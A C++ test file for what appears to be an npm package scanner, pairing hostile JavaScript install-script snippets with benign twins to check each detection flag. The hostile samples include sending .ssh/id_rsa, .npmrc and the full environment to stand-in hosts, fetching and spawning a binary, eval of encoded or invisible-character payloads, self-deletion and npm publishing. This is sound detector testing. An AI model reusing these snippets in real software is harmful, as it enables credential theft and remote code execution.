#include <gtest/gtest.h>

#include "inspect/testing.h"

namespace cordon::inspect {
namespace {

using testing::has;
using testing::installing;

std::string repeated(std::string_view text, int times) {
  std::string out;
  for (int i = 0; i < times; ++i) out += text;
  return out;
}

// Each pair differs in the one fact that decides.
struct Twins {
  FlagKind kind;
  const char* name;
  const char* code;
  const char* benign;
};

const Twins kTwins[] = {
    {FlagKind::download_and_run, "AFetchedFileThatIsStarted",
     R"(const https = require('https'), fs = require('fs'), cp = require('child_process');
const os = require('os'), path = require('path');
const place = path.join(os.tmpdir(), 'x.bin');
https.get('https://files.example.test/x', (res) => {
  res.pipe(fs.createWriteStream(place)).on('finish', () => cp.spawn(place)); });)",
     R"(const https = require('https'), fs = require('fs'), cp = require('child_process');
const os = require('os'), path = require('path');
const place = path.join(os.tmpdir(), 'x.bin');
https.get('https://files.example.test/x', (res) => {
  res.pipe(fs.createWriteStream(place)).on('finish', () => cp.spawn('node-gyp')); });)"},
    {FlagKind::self_deletion, "RemovesItself", "const fs = require('fs'); fs.unlinkSync(__filename);",
     "const fs = require('fs'); fs.unlinkSync(__dirname + '/x.tmp');"},
    {FlagKind::manifest_write, "WritesItsManifest",
     "import fs from 'node:fs'; import { join } from 'path'; fs.writeFileSync(join(__dirname, 'package.json'), '{}');",
     "import fs from 'node:fs'; import { join } from 'path'; fs.readFileSync(join(__dirname, 'package.json'), "
     "'utf8');"},
    {FlagKind::project_overwrite, "WritesOverWhatItFindsInTheProject",
     "const fs = require('fs'); for (const f of fs.readdirSync(process.env.INIT_CWD)) fs.writeFileSync(f, '');",
     "const fs = require('fs'); for (const f of fs.readdirSync(process.env.INIT_CWD)) fs.existsSync(f);"},
    {FlagKind::mining, "SpeaksToAPool", "say('mining.authorize', [wallet]);", "say('authorize', [wallet]);"},
    {FlagKind::secret_path, "NamesCredentials",
     "const home = require('os').homedir(); read(home + '/.aws/credentials', home + '/.aws');",
     "const home = require('os').homedir(); read(home + '/awstats/credentials');"},
    {FlagKind::bulk_environment, "TakesTheWholeEnvironment", "const all = Object.entries(process.env);",
     "const one = Object.entries(process.env.PATH);"},
    {FlagKind::second_runtime, "FetchesARuntime", "const u = 'https://github.com/oven-sh/bun/releases/x.zip';",
     "const u = 'https://github.com/oven-sh/bunny/releases/x.zip';"},
    {FlagKind::computed_module, "LoadsByAComputedName", "const t = names(); require(t[0]);", "require('fs');"},
    {FlagKind::shell_download, "ACommandFetches",
     "const { exec } = require('child_process'); exec('curl -s https://a.example.test/x -o x');",
     "const { exec } = require('child_process'); exec('echo curl -s https://a.example.test/x');"},
    {FlagKind::detached_process, "OutlivesTheInstallation",
     "require('child_process').spawn(process.execPath, ['w.js'], { detached: true, stdio: 'ignore' }).unref();",
     "require('child_process').spawn(process.execPath, ['w.js'], { detached: false, stdio: 'ignore' }).unref();"},
    {FlagKind::outside_write, "WritesWhatAnEditorRuns",
     "const fs = require('fs'), path = require('path'); fs.writeFileSync(path.join(process.env.INIT_CWD, '.vscode', "
     "'tasks.json'), text);",
     "const fs = require('fs'), path = require('path'); fs.readFileSync(path.join(process.env.INIT_CWD, '.vscode', "
     "'tasks.json'));"},
    {FlagKind::publish, "Publishes",
     "const { spawnSync } = require('child_process'); spawnSync('npm', ['publish', '--ignore-scripts', f]);",
     "const { spawnSync } = require('child_process'); spawnSync('npm', ['pack', '--ignore-scripts', f]);"},
    {FlagKind::encoded_payload, "HidesANameInBase64",
     "const m = Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString();",
     "const m = Buffer.from('Z3JlZW4gYXBwbGVzIQ==', 'base64').toString();"},
    {FlagKind::encoded_payload, "HidesANameBackwards", "const m = 'ssecorp_dlihc'.split('').reverse().join('');",
     "const m = 'ssecorp_dlihc'.split('').sort().join('');"},
    {FlagKind::eval_of_decoded, "EvaluatesWhatItDecodes", "eval(Buffer.from('dm9pZCAw', 'base64').toString());",
     "eval(Buffer.from('dm9pZCAw').toString());"},
    {FlagKind::network, "AsksOverTheNetwork", "const h = require('https'); h.get('https://a.example.test/');",
     "const h = require('path'); h.get('https://a.example.test/');"},
    {FlagKind::secrets_sent, "SendsTheEnvironment",
     "const h = require('https'); const r = h.request({ host: 'a.example.test', method: 'POST' }); "
     "r.end(JSON.stringify(process.env));",
     "const h = require('https'); const r = h.request({ host: 'a.example.test', method: 'POST' }); "
     "r.end(JSON.stringify(process.env.CI));"},
    {FlagKind::secrets_sent, "SendsThroughAFunctionAboveAndAName",
     R"(const fs = require('fs'), http = require('http');
function send(body) { http.request({ host: 'c.example.test' }).end(Buffer.from(body).toString('base64')); }
const files = ['.npmrc', '.ssh/id_rsa']; const found = [];
for (const each of files) found.push({ text: fs.readFileSync(each, 'utf8') });
send(JSON.stringify(found));)",
     R"(const fs = require('fs'), http = require('http');
function send(body) { http.request({ host: 'c.example.test' }).end(Buffer.from(body).toString('base64')); }
const files = ['.npmignore', 'notes/id.txt']; const found = [];
for (const each of files) found.push({ text: fs.readFileSync(each, 'utf8') });
send(JSON.stringify(found));)"},
    {FlagKind::obfuscated, "NamesThatOnlyToolsWrite", "var _0x1a2b = 1, _0x3c4d = _0x1a2b, _0x5e6f = _0x3c4d;",
     "var x1a2b = 1, x3c4d = x1a2b, x5e6f = x3c4d;"},
};

TEST(CodeFacts, EachFlagAndItsTwin) {
  for (const Twins& each : kTwins) {
    EXPECT_TRUE(has(installing(each.code).peek(), each.kind)) << each.name;
    EXPECT_FALSE(has(installing(each.benign).peek(), each.kind)) << each.name;
  }
}

// A long text that a name stands for is read at every use of the name, up to a limit that is told.
TEST(CodeFacts, LongTextsByWayOfNamesHaveALimit) {
  const std::string code = "const a = '" + repeated("x y/", 400) + "';" + repeated("a;", 100);
  EXPECT_EQ(read_code(code, {}, {.named_bytes = 100'000}).limit, "too_large");
  EXPECT_TRUE(read_code(code, {}).is_complete);
  EXPECT_TRUE(read_code("let a = 'x';" + repeated("a += a;", 10'000), {}).is_complete);
}

TEST(CodeFacts, CodeBehindBlanksIsHidden) {
  EXPECT_TRUE(has(installing("a();" + std::string(220, ' ') + "b();").peek(), FlagKind::hidden_by_blanks));
  EXPECT_FALSE(has(installing("a();" + std::string(80, ' ') + "b();").peek(), FlagKind::hidden_by_blanks));
  EXPECT_FALSE(has(installing("a('" + std::string(220, ' ') + "');").peek(), FlagKind::hidden_by_blanks));
}

TEST(CodeFacts, ManyCharactersThatNobodySeesInOneLiteral) {
  std::string unseen;
  for (int i = 0; i < 70; ++i) unseen += "\xEF\xB8\x81";
  const std::string decoder =
      "const t = [...s].map((c) => c.codePointAt(0) - 0xFE00); eval(String.fromCharCode(...t));";
  {
    const Peek peek = testing::Package(R"({"name": "p", "version": "1.0.0", "main": "index.js"})")
                          .add("index.js", "const s = '" + unseen + "'; " + decoder)
                          .peek();
    EXPECT_TRUE(has(peek, FlagKind::invisible_text));
    EXPECT_TRUE(has(peek, FlagKind::eval_of_decoded));
  }
  // A table of emoji has as many, one in each literal.
  std::string table = "const list = [";
  for (int i = 0; i < 200; ++i) table += "'\xE2\x9D\xA4\xEF\xB8\x8F', ";
  EXPECT_FALSE(has(installing(table + "]; eval(x);").peek(), FlagKind::invisible_text));
}

TEST(CodeFacts, CharactersThatNobodySeesAmongOthersInOneLiteral) {
  const auto flagged = [](const std::string& seen, int every) {
    std::string literal;
    for (int i = 0; i < 300; ++i) literal += i % every == 0 ? seen : "\xEE\x9A\x85";  // of the private use area
    return has(installing("const s = '" + literal + "'; eval(s);").peek(), FlagKind::invisible_text);
  };
  // A table of a Chinese encoding, as iconv-lite has it: short runs of private use between keys that are seen.
  EXPECT_FALSE(flagged("a5f7,32 ", 4));
  EXPECT_FALSE(flagged("\xE2\x9D\xA4", 2));  // every other is an emoji
  EXPECT_TRUE(flagged("x", 20));             // a blob that is broken up is one all the same
}

TEST(CodeFacts, DeclarationsThatGoOn) {
  const char* const code =
      "let a, { unlinkSync } = require('fs'), b = 1, { spawn: s } = require('child_process');\n"
      "unlinkSync(__filename); s('a', []);";
  const Peek peek = installing(code).peek();
  for (const FlagKind kind : {FlagKind::process, FlagKind::self_deletion}) EXPECT_TRUE(has(peek, kind));
  EXPECT_TRUE(installing("let " + repeated("a,", 200'000) + "b").peek().not_inspected.empty());
}

TEST(CodeFacts, WhatCompilersPutAroundModulesHidesNothing) {
  const char* const code =
      "const fs_1 = __importDefault(require('fs')), cp = require('child_process');\n"
      "const h = local ? require('http') : require('https');\n"
      "(0, cp.spawn)('a', []); fs_1.default.unlinkSync(__filename); h.get('https://a.example.test');";
  const Peek peek = installing(code).peek();
  for (const FlagKind kind : {FlagKind::process, FlagKind::self_deletion, FlagKind::network})
    EXPECT_TRUE(has(peek, kind));
}

TEST(CodeFacts, NamesOfTwoFunctionsDoNotMix) {
  const char* const code =
      "const h = require('https'); function a() { const x = JSON.stringify(process.env); save(x); }\n"
      "function b() { const x = JSON.stringify({ a: 1 }); h.request('https://a.example.test').end(x); }";
  EXPECT_FALSE(has(installing(code).peek(), FlagKind::secrets_sent));
}

TEST(CodeFacts, TheEnvironmentOfAProgramIsNotSent) {
  const char* const code =
      "const { spawnSync } = require('child_process'); const https = require('https');\n"
      "spawnSync('node-gyp', ['rebuild'], { env: { ...process.env, A: '1' } }); https.get('https://a.example.test/x');";
  EXPECT_FALSE(has(installing(code).peek(), FlagKind::secrets_sent));
}

TEST(CodeFacts, PlacesPointAtTheCall) {
  const Peek peek = installing("\n\n  require('fs').unlinkSync(__filename);\n").peek();
  ASSERT_EQ(peek.flags.size(), 1u);
  EXPECT_EQ(peek.flags[0].place.path, "setup.js");
  EXPECT_EQ(peek.flags[0].place.line, 3u);
  EXPECT_EQ(peek.flags[0].place.column, 3u);
  EXPECT_EQ(peek.flags[0].why, std::vector<std::string>({"postinstall"}));
}

// What made parsers with a tree abort or take minutes.
TEST(CodeFacts, HostileDepthEndsAndIsTold) {
  for (const std::string& code :
       {repeated("function f(){", 20'000), repeated("([{", 133'334), repeated("a=b=", 100'000), repeated("`${", 50'000),
        repeated("x=>{", 50'000), repeated("return ", 50'000)}) {
    const Peek peek = installing(code).peek();
    EXPECT_TRUE(std::ranges::any_of(peek.not_inspected, [](const NotInspected& each) {
      return each.reason == "too_deep";
    })) << code.substr(0, 12);
  }
}

// The limit of depth lets go of what encloses: neither what stands behind nor what stands innermost is hidden by it.
TEST(CodeFacts, DepthAndEmptyStatementsHideNothing) {
  const std::string drops = "fetch('https://files.example.test/s').then(r => r.text()).then(t => eval(t));";
  const auto found = [](const std::string& code) { return has(installing(code).peek(), FlagKind::download_and_run); };
  EXPECT_TRUE(found(repeated("[", 2'100) + repeated("]", 2'100) + ";" + drops));
  EXPECT_TRUE(found(repeated("a=", 2'100) + "1;" + drops));
  EXPECT_TRUE(found(repeated(";", 1'600'000) + drops));
  EXPECT_TRUE(found(repeated("(() => {", 2'100) + drops + repeated("})()", 2'100)));
  EXPECT_TRUE(found("`" + repeated("${`", 2'100) + repeated("`}", 2'100) + "`;" + drops));
}

TEST(CodeFacts, TheLimitThatEndedTheReadingIsTold) {
  EXPECT_EQ(read_code(repeated("[", 2'100) + repeated("]", 2'100), {}).limit, "too_deep");
  EXPECT_EQ(read_code("a b c d", {}, {.bytes = 100, .tokens = 2, .depth = 10}).limit, "too_many");
  EXPECT_EQ(read_code("a b c d", {}, {.bytes = 3, .tokens = 20, .depth = 10}).limit, "too_large");
  EXPECT_TRUE(read_code("a b c d", {}).is_complete);
}

TEST(CodeFacts, RandomBytesAreRead) {
  std::string bytes;
  std::uint32_t state = 12'345;
  for (int i = 0; i < 2'000'000; ++i) {
    state = state * 1'664'525 + 1'013'904'223;
    bytes += static_cast<char>(state >> 24);
  }
  const Peek peek = installing(bytes).peek();
  EXPECT_EQ(peek.counts.followed_files, 1u);
}

}  // namespace
}  // namespace cordon::inspect
